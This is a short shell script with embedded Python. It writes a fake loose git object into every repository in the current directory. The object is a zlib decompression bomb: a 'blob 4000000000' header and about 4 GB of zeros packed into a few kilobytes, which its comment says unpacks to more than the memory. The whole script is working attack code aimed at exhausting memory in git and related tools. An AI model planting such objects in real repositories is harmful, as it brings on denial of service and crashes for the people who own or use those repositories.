# Objects of a few kilobytes that unpack to more than the memory.
for git in */.git *.git; do
    mkdir -p "$git/objects/ab"
    python3 - "$git/objects/ab/00000000000000000000000000000000000000" <<'END'
import sys, zlib
packer = zlib.compressobj(9)
with open(sys.argv[1], "wb") as file:
    file.write(packer.compress(b"blob 4000000000\0"))
    for _ in range(4000):
        file.write(packer.compress(bytes(1000000)))
    file.write(packer.flush())
END
done
